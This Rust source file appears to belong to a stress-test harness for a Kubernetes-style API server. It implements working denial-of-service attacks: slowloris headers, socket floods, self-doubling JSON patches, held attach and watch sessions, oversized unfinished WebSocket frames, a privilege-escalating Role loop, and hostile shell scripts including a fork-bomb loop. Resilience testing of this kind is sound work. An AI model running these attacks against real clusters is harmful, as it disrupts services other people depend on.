//! The attacks, each run alone while the bystander works: a stranger without a token, and tenants with the
//! tokens of a namespace's viewer, editor and administrator. Each runs until `running` turns false and then lets go
//! of everything it holds.

use std::sync::Arc;
use std::sync::atomic::{AtomicBool, Ordering};
use std::time::Duration;

use serde_json::json;
use tokio::io::{AsyncReadExt, AsyncWriteExt};
use tokio::net::TcpStream;
use tokio_rustls::client::TlsStream;

use crate::client::Raw;

/// Who attacks, and where.
pub(crate) struct Target {
    /// The API server's HTTPS endpoint.
    pub raw: Raw,
    /// The cluster administrator's token (only the patch attack uses it: patches are admitted before they grow).
    pub admin: String,
    /// A ServiceAccount's token with ClusterRole `edit` in `default`.
    pub editor: String,
    /// A ServiceAccount's token with ClusterRole `admin` in `default`.
    pub namespace_admin: String,
    /// A ServiceAccount's token with ClusterRole `view` in `default`.
    pub viewer: String,
}

/// Start an attack on a target; it runs until the flag turns false.
pub(crate) type Start = fn(Arc<Target>, Arc<AtomicBool>) -> tokio::task::JoinHandle<()>;

/// An attack: its name in the report, and how it is started.
pub(crate) struct Attack {
    /// Its name in the report.
    pub name: &'static str,
    /// Start it.
    pub run: Start,
}

/// The attacks named, each started as a task of its own.
macro_rules! attacks {
    ($($name:literal => $attack:ident),* $(,)?) => {
        vec![$(Attack { name: $name, run: |target, running| tokio::spawn($attack(target, running)) }),*]
    };
}

/// Every attack, in the order the report lists them.
pub(crate) fn all() -> Vec<Attack> {
    attacks![
        "unauthenticated sockets" => unauthenticated_sockets,
        "slow headers" => slow_headers,
        "self-doubling patches" => doubling_patches,
        "editor's attach sessions" => attach_sessions,
        "unfinished WebSocket messages" => unfinished_messages,
        "editor's watches" => watches,
        "escalating Role" => escalating_role,
        "old-snapshot lists" => old_snapshot_lists,
        "large writes, unread watch" => large_writes_unread_watch,
        "hostile scripts" => hostile_scripts,
    ]
}

/// 600 TCP sockets that never start TLS, re-opened as the server closes them.
async fn unauthenticated_sockets(target: Arc<Target>, running: Arc<AtomicBool>) {
    let mut sockets: Vec<TcpStream> = Vec::new();
    while running.load(Ordering::SeqCst) {
        while sockets.len() < 600 {
            match tokio::time::timeout(
                Duration::from_millis(50),
                TcpStream::connect(target.raw.address()),
            )
            .await
            {
                Ok(Ok(socket)) => sockets.push(socket),
                _ => break,
            }
        }
        tokio::time::sleep(Duration::from_millis(200)).await;
        // A socket the server has closed reads as end of file; one it keeps open has nothing to read.
        sockets.retain(|s| {
            let mut byte = [0u8; 1];
            matches!(s.try_read(&mut byte), Err(e) if e.kind() == std::io::ErrorKind::WouldBlock)
        });
    }
}

/// Fifty connections sending request headers a byte every 100 ms, reconnecting when closed.
async fn slow_headers(target: Arc<Target>, running: Arc<AtomicBool>) {
    let mut tasks = Vec::new();
    for _ in 0..50 {
        let target = target.clone();
        let running = running.clone();
        tasks.push(tokio::spawn(async move {
            while running.load(Ordering::SeqCst) {
                let Some(mut stream) = tls(&target.raw).await else {
                    tokio::time::sleep(Duration::from_millis(100)).await;
                    continue;
                };
                for byte in b"GET /version HTTP/1.1\r\nX-Slow: ".iter().cycle() {
                    if !running.load(Ordering::SeqCst) || stream.write_all(&[*byte]).await.is_err()
                    {
                        break;
                    }
                    tokio::time::sleep(Duration::from_millis(100)).await;
                }
            }
        }));
    }
    for task in tasks {
        let _ = task.await;
    }
}

/// A JSON patch of 24 self-doubling copies every half second.
async fn doubling_patches(target: Arc<Target>, running: Arc<AtomicBool>) {
    let mut doubling = vec![
        json!({"op": "add", "path": "/data", "value": {"x": "x".repeat(1024)}}),
        json!({"op": "add", "path": "/metadata/annotations", "value": {"k": []}}),
    ];
    for _ in 0..24 {
        doubling.push(json!({"op": "copy", "from": "/data", "path": "/metadata/annotations/k/-"}));
        doubling.push(json!({"op": "copy", "from": "/metadata/annotations", "path": "/data/y"}));
    }
    let body = serde_json::to_vec(&doubling).unwrap_or_default();
    let head = format!(
        "PATCH /api/v1/namespaces/default/configmaps/target HTTP/1.1\r\nAuthorization: Bearer {}\r\n\
         Content-Type: application/json-patch+json",
        target.admin
    );
    while running.load(Ordering::SeqCst) {
        target.raw.request(&head, &body).await;
        tokio::time::sleep(Duration::from_millis(500)).await;
    }
}

/// The editor attaches to its pod as often as the server lets it (up to 1,100 sessions) and holds every session.
async fn attach_sessions(target: Arc<Target>, running: Arc<AtomicBool>) {
    let path = "/api/v1/namespaces/default/pods/app/attach?stdout=true&stdin=true";
    let mut sessions = Vec::new();
    while running.load(Ordering::SeqCst) {
        while sessions.len() < 1_100 && running.load(Ordering::SeqCst) {
            match open(&target.raw, &target.editor, path, true).await {
                Some((101, stream)) => sessions.push(stream),
                _ => break,
            }
        }
        tokio::time::sleep(Duration::from_millis(500)).await;
    }
}

/// Sixteen attach sessions, each sending one binary WebSocket frame that announces 60 MiB and sending it as fast
/// as the server takes it, never finishing.
async fn unfinished_messages(target: Arc<Target>, running: Arc<AtomicBool>) {
    let path = "/api/v1/namespaces/default/pods/app/attach?stdout=true&stdin=true";
    let mut tasks = Vec::new();
    for _ in 0..16 {
        let target = target.clone();
        let running = running.clone();
        tasks.push(tokio::spawn(async move {
            while running.load(Ordering::SeqCst) {
                let Some((101, mut stream)) = open(&target.raw, &target.editor, path, true).await
                else {
                    tokio::time::sleep(Duration::from_millis(200)).await;
                    continue;
                };
                // FIN, binary; masked with a zero key (clients must mask), 64-bit length.
                let announced: u64 = 60 << 20;
                let mut header = vec![0x82, 0x80 | 127];
                header.extend_from_slice(&announced.to_be_bytes());
                header.extend_from_slice(&[0, 0, 0, 0]);
                // The stdin channel's number first, as the protocol frames it.
                header.push(0);
                if stream.write_all(&header).await.is_err() {
                    continue;
                }
                let chunk = vec![b'x'; 1 << 20];
                let mut sent = 0u64;
                while sent + (1 << 20) < announced && running.load(Ordering::SeqCst) {
                    if stream.write_all(&chunk).await.is_err() {
                        break;
                    }
                    sent += 1 << 20;
                }
                // Hold the unfinished message until told to stop.
                while running.load(Ordering::SeqCst) {
                    let mut byte = [0u8; 1];
                    let read =
                        tokio::time::timeout(Duration::from_millis(200), stream.read(&mut byte));
                    if let Ok(Ok(0) | Err(_)) = read.await {
                        break;
                    }
                }
            }
        }));
    }
    for task in tasks {
        let _ = task.await;
    }
}

/// The editor opens as many watches as the server lets it (up to 1,100) and holds them.
async fn watches(target: Arc<Target>, running: Arc<AtomicBool>) {
    let path = "/api/v1/namespaces/default/configmaps?watch=true";
    let mut held = Vec::new();
    while running.load(Ordering::SeqCst) {
        while held.len() < 1_100 && running.load(Ordering::SeqCst) {
            match open(&target.raw, &target.editor, path, false).await {
                Some((200, stream)) => held.push(stream),
                _ => break,
            }
        }
        tokio::time::sleep(Duration::from_millis(500)).await;
    }
}

/// The namespace's administrator creates, in a loop, a 3 KB Role granting what it does not hold: 12 verbs × 20
/// resources × 20 names.
async fn escalating_role(target: Arc<Target>, running: Arc<AtomicBool>) {
    let verbs = [
        "get",
        "list",
        "watch",
        "create",
        "update",
        "patch",
        "delete",
        "deletecollection",
        "escalate",
        "bind",
        "impersonate",
        "approve",
    ];
    let resources: Vec<String> = (0..20).map(|i| format!("widgets{i}")).collect();
    let names: Vec<String> = (0..20).map(|i| format!("name-{i}")).collect();
    let role = json!({
        "apiVersion": "rbac.authorization.k8s.io/v1",
        "kind": "Role",
        "metadata": {"name": "wide", "namespace": "default"},
        "rules": [{"apiGroups": ["", "apps", "example.com"], "verbs": verbs, "resources": resources, "resourceNames": names}],
    });
    let body = serde_json::to_vec(&role).unwrap_or_default();
    let head = format!(
        "POST /apis/rbac.authorization.k8s.io/v1/namespaces/default/roles HTTP/1.1\r\nAuthorization: Bearer {}\r\n\
         Content-Type: application/json",
        target.namespace_admin
    );
    while running.load(Ordering::SeqCst) {
        target.raw.request(&head, &body).await;
    }
}

/// Four viewers of `default` listing its ConfigMaps as they were when the attack started, in a loop.
async fn old_snapshot_lists(target: Arc<Target>, running: Arc<AtomicBool>) {
    let current = |raw: Raw, token: String| async move {
        let head = format!(
            "GET /api/v1/namespaces/default/configmaps?limit=1 HTTP/1.1\r\nAuthorization: Bearer {token}"
        );
        let (_, body) = raw.request(&head, b"").await;
        serde_json::from_str::<serde_json::Value>(&body)
            .ok()
            .and_then(|list| {
                list.pointer("/metadata/resourceVersion")?
                    .as_str()
                    .map(str::to_owned)
            })
            .unwrap_or_default()
    };
    let old = current(target.raw.clone(), target.viewer.clone()).await;
    let mut tasks = Vec::new();
    for _ in 0..4 {
        let target = target.clone();
        let running = running.clone();
        let old = old.clone();
        tasks.push(tokio::spawn(async move {
            let head = format!(
                "GET /api/v1/namespaces/default/configmaps?resourceVersion={old}&resourceVersionMatch=Exact \
                 HTTP/1.1\r\nAuthorization: Bearer {}",
                target.viewer
            );
            while running.load(Ordering::SeqCst) {
                target.raw.request(&head, b"").await;
            }
        }));
    }
    for task in tasks {
        let _ = task.await;
    }
}

/// A viewer opens a watch of `default`'s ConfigMaps and never reads it, while the editor writes a ConfigMap of
/// 0.95 MiB over and over.
async fn large_writes_unread_watch(target: Arc<Target>, running: Arc<AtomicBool>) {
    let unread = open(
        &target.raw,
        &target.viewer,
        "/api/v1/namespaces/default/configmaps?watch=true",
        false,
    )
    .await;
    let head = format!(
        "PUT /api/v1/namespaces/default/configmaps/large HTTP/1.1\r\nAuthorization: Bearer {}\r\n\
         Content-Type: application/json",
        target.editor
    );
    let mut i = 0u64;
    while running.load(Ordering::SeqCst) {
        let body = json!({
            "apiVersion": "v1", "kind": "ConfigMap",
            "metadata": {"name": "large", "namespace": "default"},
            "data": {"blob": format!("{i:08}{}", "x".repeat(972 * 1024))},
        });
        target
            .raw
            .request(&head, &serde_json::to_vec(&body).unwrap_or_default())
            .await;
        i += 1;
    }
    drop(unread);
}

/// A TLS connection to the server, or None when it cannot be made.
async fn tls(raw: &Raw) -> Option<TlsStream<TcpStream>> {
    let socket = tokio::time::timeout(Duration::from_secs(2), TcpStream::connect(raw.address()))
        .await
        .ok()?
        .ok()?;
    tokio::time::timeout(Duration::from_secs(5), raw.try_handshake(socket))
        .await
        .ok()?
        .ok()
}

/// Scripts written to cost the simulation as much as they can: a loop that never waits, endless recursion, an
/// output flood and nested shells in a loop (a fork bomb's shape; background jobs are refused).
const HOSTILE_SCRIPTS: [&str; 4] = [
    "while :; do :; done",
    "f() { f; }; f",
    "while :; do echo xxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxx; done",
    "while :; do sh -c 'while :; do sh -c :; done'; done",
];

/// The editor's pods running each hostile script (two of each, restarted as they are stopped), and exec sessions
/// running them in the attached pod, re-opened every half second up to sixteen at a time.
async fn hostile_scripts(target: Arc<Target>, running: Arc<AtomicBool>) {
    let create = format!(
        "POST /api/v1/namespaces/default/pods HTTP/1.1\r\nAuthorization: Bearer {}\r\n\
         Content-Type: application/json",
        target.editor
    );
    for (i, script) in HOSTILE_SCRIPTS.iter().cycle().take(8).enumerate() {
        let pod = json!({
            "metadata": {"name": format!("hostile-{i}")},
            "spec": {"nodeName": "worker-0", "containers": [
                {"name": "main", "image": "quay.io/org/app:1", "command": ["sh", "-c", script]}
            ]},
        });
        target
            .raw
            .request(&create, &serde_json::to_vec(&pod).unwrap_or_default())
            .await;
    }
    let mut sessions = Vec::new();
    while running.load(Ordering::SeqCst) {
        sessions.retain(|task: &tokio::task::JoinHandle<()>| !task.is_finished());
        for script in HOSTILE_SCRIPTS.iter().cycle().take(16 - sessions.len()) {
            let path = format!(
                "/api/v1/namespaces/default/pods/app/exec?command=sh&command=-c&command={}&stdout=true",
                percent_encoded(script)
            );
            let target = target.clone();
            let running = running.clone();
            sessions.push(tokio::spawn(async move {
                if let Some((101, mut stream)) =
                    open(&target.raw, &target.editor, &path, true).await
                {
                    let mut sink = [0u8; 16 << 10];
                    while running.load(Ordering::SeqCst)
                        && matches!(stream.read(&mut sink).await, Ok(n) if n > 0)
                    {
                    }
                }
            }));
        }
        tokio::time::sleep(Duration::from_millis(500)).await;
    }
    for task in sessions {
        task.abort();
    }
    for i in 0..8 {
        let delete = format!(
            "DELETE /api/v1/namespaces/default/pods/hostile-{i} HTTP/1.1\r\nAuthorization: Bearer {}",
            target.editor
        );
        target.raw.request(&delete, b"").await;
    }
}

/// `text` as a query parameter's value.
fn percent_encoded(text: &str) -> String {
    text.bytes()
        .map(|b| match b {
            b'A'..=b'Z' | b'a'..=b'z' | b'0'..=b'9' | b'-' | b'_' | b'.' | b'~' => {
                (b as char).to_string()
            }
            _ => format!("%{b:02X}"),
        })
        .collect()
}

/// A request for a stream (a watch, or with `upgrade` a WebSocket session), answered with its status; the
/// connection is kept open for the stream.
async fn open(
    raw: &Raw,
    token: &str,
    path: &str,
    upgrade: bool,
) -> Option<(u16, TlsStream<TcpStream>)> {
    let mut stream = tls(raw).await?;
    let upgrade = if upgrade {
        "Connection: Upgrade\r\nUpgrade: websocket\r\nSec-WebSocket-Version: 13\r\n\
         Sec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\nSec-WebSocket-Protocol: v5.channel.k8s.io\r\n"
    } else {
        ""
    };
    let head = format!(
        "GET {path} HTTP/1.1\r\nHost: localhost\r\nAuthorization: Bearer {token}\r\n{upgrade}\r\n"
    );
    stream.write_all(head.as_bytes()).await.ok()?;
    let mut answer = Vec::new();
    let mut byte = [0u8; 1];
    let read_head = async {
        while !answer.ends_with(b"\r\n\r\n") && answer.len() < 16 << 10 {
            if stream.read(&mut byte).await.ok()? == 0 {
                return None;
            }
            answer.push(byte[0]);
        }
        Some(())
    };
    tokio::time::timeout(Duration::from_secs(5), read_head)
        .await
        .ok()??;
    let status = std::str::from_utf8(answer.get(9..12)?).ok()?.parse().ok()?;
    Some((status, stream))
}
